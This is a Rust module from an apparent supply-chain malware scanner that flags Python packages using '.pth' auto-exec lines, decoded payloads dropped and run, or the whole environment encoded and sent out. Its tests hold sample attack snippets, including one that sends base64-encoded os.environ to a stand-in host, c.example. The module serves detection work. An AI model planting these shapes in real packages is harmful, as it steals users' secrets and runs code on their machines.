//! Python-specific behaviour chains, over the same facts as the JavaScript ones. The Python
//! facts carry capability uses and folded call arguments but no per-argument data flow, so
//! these chains are judged by what runs together in one function (or one install-time
//! file), with the shapes that separate malware from ordinary packages:
//!
//! - **`.pth` auto-exec**: a `.pth` line starting with `import` runs at every interpreter
//!   start. Legitimate ones import a path hook (`_virtualenv`, `_distutils_hack`); one that
//!   reaches the network, starts processes or executes code is the 2026 `.pth` campaign.
//!   An `exec` of a plain constant (no decoder in the file) is judged by the code it runs,
//!   analysed as Python: coverage's `a1_coverage.pth` execs a literal that imports coverage
//!   when `COVERAGE_PROCESS_START` is set.
//! - **Decoded payload dropped and run**: code that decodes data (base64, hex, zlib,
//!   marshal), writes a file and starts a process, at install time or on import
//!   (aiohttp-proxy-connector's fake `__pycache__/main.cpython-39.py`).
//! - **Encoded environment sent**: the whole `os.environ` read, encoded (`b64encode`,
//!   `hexlify`, `zlib.compress`) and sent over the network in one function (ctx). A program
//!   passing `os.environ` to a subprocess next to an HTTP call does not encode it.

use super::{Detection, Step, Technique};
use ferret_core::{
    CallFact, Capability, CapabilityUse, FileFacts, FileKind, PackageFacts, ParseStatus, UseKind,
};

const DECODERS: &[&str] = &[
    "base64.b64decode",
    "base64.urlsafe_b64decode",
    "base64.decodebytes",
    "base64.b32decode",
    "base64.b85decode",
    "binascii.a2b_base64",
    "binascii.unhexlify",
    "bytes.fromhex",
    "codecs.decode",
    "zlib.decompress",
    "gzip.decompress",
    "lzma.decompress",
    "bz2.decompress",
    "marshal.loads",
];

const ENCODERS: &[&str] = &[
    "base64.b64encode",
    "base64.urlsafe_b64encode",
    "base64.encodebytes",
    "base64.b32encode",
    "base64.b85encode",
    "binascii.b2a_base64",
    "binascii.hexlify",
    "zlib.compress",
    "codecs.encode",
];

/// The Python chains of one package, appended to `out`.
pub(super) fn detect(pkg: &PackageFacts, out: &mut Vec<Detection>) {
    for file in pkg.files.iter().filter(|f| f.kind == FileKind::Python) {
        pth_autoexec(file, out);
        decoded_drop_and_run(file, out);
        encoded_environment_sent(file, out);
    }
}

fn call_uses(file: &FileFacts, cap: Capability) -> Vec<&CapabilityUse> {
    file.uses_of(cap)
        .filter(|u| matches!(u.kind, UseKind::Call | UseKind::Construct))
        .collect()
}

fn where_(file: &FileFacts) -> String {
    if file.install_time {
        format!("install-time `{}`", file.path)
    } else {
        format!("`{}`", file.path)
    }
}

fn detection(
    file: &FileFacts,
    technique: Technique,
    summary: String,
    steps: Vec<Step>,
    malicious: bool,
) -> Detection {
    Detection {
        technique,
        path: file.path.clone(),
        summary,
        steps,
        install_time: file.install_time,
        malicious,
    }
}

fn pth_autoexec(file: &FileFacts, out: &mut Vec<Detection>) {
    if !file.install_time || !file.path.to_ascii_lowercase().ends_with(".pth") {
        return;
    }
    let net = call_uses(file, Capability::Network);
    let shell = call_uses(file, Capability::Shell);
    let dynamic: Vec<&CapabilityUse> = call_uses(file, Capability::DynamicCode)
        .into_iter()
        .filter(|u| !runs_harmless_constant(file, u, 0))
        .collect();
    if net.is_empty() && shell.is_empty() && dynamic.is_empty() {
        return;
    }
    let mut steps = Vec::new();
    let mut what = Vec::new();
    if let Some(u) = net.first() {
        steps.push(Step::from_use(u, format!("downloads with `{}`", u.api)));
        what.push("reaches the network");
    }
    if let Some(u) = shell.first() {
        steps.push(Step::from_use(
            u,
            format!("starts a process with `{}`", u.api),
        ));
        what.push("starts processes");
    }
    if let Some(u) = dynamic.first() {
        steps.push(Step::from_use(u, format!("executes code with `{}`", u.api)));
        what.push("executes code");
    }
    let technique = if dynamic.is_empty() || !net.is_empty() {
        Technique::DownloadExec
    } else {
        Technique::EncodedPayloadExec
    };
    out.push(detection(
        file,
        technique,
        format!(
            "`{}` runs at every Python start-up (a `.pth` import line) and {}",
            file.path,
            what.join(", ")
        ),
        steps,
        true,
    ));
}

/// Whether a dynamic-code call runs a plain constant (no decoder anywhere in the file, so
/// nothing was decoded into it) whose code, analysed as Python, neither reaches the network,
/// starts a process nor executes code that is not itself such a constant. Nested constants
/// are followed two levels deep; anything unparsable counts as not harmless.
fn runs_harmless_constant(file: &FileFacts, u: &CapabilityUse, depth: u32) -> bool {
    if depth > 2
        || file
            .calls
            .iter()
            .any(|c| DECODERS.contains(&c.callee.as_str()))
    {
        return false;
    }
    let Some(code) = file
        .calls
        .iter()
        .find(|c| {
            c.location.line == u.location.line
                && c.location.column == u.location.column
                && matches!(c.callee.as_str(), "exec" | "eval")
        })
        .and_then(|c| c.args.first().cloned().flatten())
    else {
        return false;
    };
    let inner = ferret_python::Analyzer::new().analyze(&file.path, &code);
    if !matches!(inner.status, ParseStatus::Parsed) {
        return false;
    }
    call_uses(&inner, Capability::Network).is_empty()
        && call_uses(&inner, Capability::Shell).is_empty()
        && call_uses(&inner, Capability::DynamicCode)
            .iter()
            .all(|d| runs_harmless_constant(&inner, d, depth + 1))
}

fn decoded_drop_and_run(file: &FileFacts, out: &mut Vec<Detection>) {
    let decoders: Vec<&CallFact> = file
        .calls
        .iter()
        .filter(|c| DECODERS.contains(&c.callee.as_str()))
        .collect();
    let Some(decode) = decoders.first() else {
        return;
    };
    let write = file.uses_of(Capability::Filesystem).find(|u| {
        u.kind == UseKind::Write
            || u.api.to_ascii_lowercase().contains("write")
            || u.detail
                .as_deref()
                .is_some_and(|d| d.starts_with("mode=") && d.contains(['w', 'a', 'x']))
    });
    let run = call_uses(file, Capability::Shell).into_iter().next();
    let (Some(write), Some(run)) = (write, run) else {
        return;
    };
    // On load: the decode and the process start both at module top level.
    let run_top = file
        .calls
        .iter()
        .any(|c| c.top_level && c.location.line == run.location.line);
    let on_load = decode.top_level && run_top;
    if !file.install_time && !on_load {
        return;
    }
    out.push(detection(
        file,
        Technique::EncodedPayloadExec,
        format!(
            "{} decodes a payload, writes it to a file and starts a process",
            where_(file)
        ),
        vec![
            Step::from_call(decode, format!("decodes data with `{}`", decode.callee)),
            Step::from_use(write, format!("writes a file with `{}`", write.api)),
            Step::from_use(run, format!("starts a process with `{}`", run.api)),
        ],
        true,
    ));
}

fn encoded_environment_sent(file: &FileFacts, out: &mut Vec<Detection>) {
    let env_all: Vec<&CapabilityUse> = file
        .uses_of(Capability::Env)
        .filter(|u| u.detail.as_deref() == Some("*"))
        .collect();
    if env_all.is_empty() {
        return;
    }
    let net = call_uses(file, Capability::Network);
    for env in env_all {
        let scope = file.scope_at(env.location.span.start);
        let in_scope = |c: &&CallFact| c.scope == scope;
        let Some(encode) = file
            .calls
            .iter()
            .filter(in_scope)
            .find(|c| ENCODERS.contains(&c.callee.as_str()))
        else {
            continue;
        };
        let Some(send) = net
            .iter()
            .find(|u| file.scope_at(u.location.span.start) == scope)
        else {
            continue;
        };
        out.push(detection(
            file,
            Technique::Exfiltration,
            format!(
                "{} encodes the whole environment and sends it over the network",
                where_(file)
            ),
            vec![
                Step::from_use(env, "reads the whole `os.environ`"),
                Step::from_call(encode, format!("encodes it with `{}`", encode.callee)),
                Step::from_use(send, format!("sends it with `{}`", send.api)),
            ],
            true,
        ));
        return;
    }
}

#[cfg(test)]
mod tests {
    use crate::engine::build_facts;
    use ferret_core::Ecosystem;

    fn detections(files: &[(&str, &str)]) -> Vec<(String, bool)> {
        let tree = ferret_source::from_files(
            "t",
            files
                .iter()
                .map(|(p, d)| ((*p).to_owned(), d.as_bytes().to_vec()))
                .collect(),
        );
        let facts = build_facts(&tree, Ecosystem::PyPI);
        let mut out = Vec::new();
        super::detect(&facts, &mut out);
        out.into_iter()
            .map(|d| (d.technique.id().to_owned(), d.malicious))
            .collect()
    }

    #[test]
    fn pth_lines_that_reach_the_network_or_processes() {
        let meta = ("d-1.dist-info/METADATA", "Name: d\nVersion: 1\n");
        assert_eq!(
            detections(&[meta, ("d.pth", "import os; os.system('id')\n")]),
            vec![("download-exec".to_owned(), true)]
        );
        // A path hook is what `.pth` import lines are for.
        assert!(detections(&[meta, ("_virtualenv.pth", "import _virtualenv\n")]).is_empty());
        // coverage 7.x: an exec of a constant that imports coverage when asked to.
        let coverage = "import sys; exec('import os\\n\\nif os.getenv(\"COVERAGE_PROCESS_START\"):\\n try:\\n  import coverage\\n except:\\n  pass\\n else:\\n  coverage.process_startup(slug=\"pth\")')\n";
        assert!(detections(&[meta, ("a1_coverage.pth", coverage)]).is_empty());
        // The same shape running a process, or executing decoded code, is the campaign.
        let spawn = "import sys; exec('import os\\nos.system(\"id\")')\n";
        assert_eq!(
            detections(&[meta, ("x.pth", spawn)]),
            vec![("encoded-payload-exec".to_owned(), true)]
        );
        let decoded = "import base64; exec(base64.b64decode('aW1wb3J0IG9z'))\n";
        assert_eq!(
            detections(&[meta, ("x.pth", decoded)]),
            vec![("encoded-payload-exec".to_owned(), true)]
        );
        assert!(
            detections(&[
                meta,
                (
                    "distutils-precedence.pth",
                    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
                )
            ])
            .is_empty()
        );
    }

    #[test]
    fn decoded_file_written_and_run_at_install() {
        let setup = "import base64, subprocess\nopen('/tmp/x.py', 'w').write(base64.b64decode('cHJpbnQoMSk=').decode())\nsubprocess.call(['python', '/tmp/x.py'])\n";
        assert_eq!(
            detections(&[("PKG-INFO", "Name: d\n"), ("setup.py", setup)]),
            vec![("encoded-payload-exec".to_owned(), true)]
        );
        // Inside a function of a library module: not on load, not install time.
        let lib = "import base64, subprocess\ndef f(p):\n    open(p, 'w').write(base64.b64decode(p).decode())\n    subprocess.call(['python', p])\n";
        assert!(detections(&[("PKG-INFO", "Name: d\n"), ("d/x.py", lib)]).is_empty());
    }

    #[test]
    fn encoded_environment_sent_in_one_function() {
        let ctx = "import base64, os, requests\nclass C:\n    def s(self):\n        e = str(dict(os.environ))\n        requests.get('https://c.example/' + base64.b64encode(e.encode()).decode())\n";
        assert_eq!(
            detections(&[("PKG-INFO", "Name: d\n"), ("d/__init__.py", ctx)]),
            vec![("exfiltration".to_owned(), true)]
        );
        let cli = "import os, subprocess, requests\ndef run(cmd):\n    subprocess.run(cmd, env=dict(os.environ))\n    return requests.get('https://api.example/v1').json()\n";
        assert!(detections(&[("PKG-INFO", "Name: d\n"), ("d/cli.py", cli)]).is_empty());
    }
}
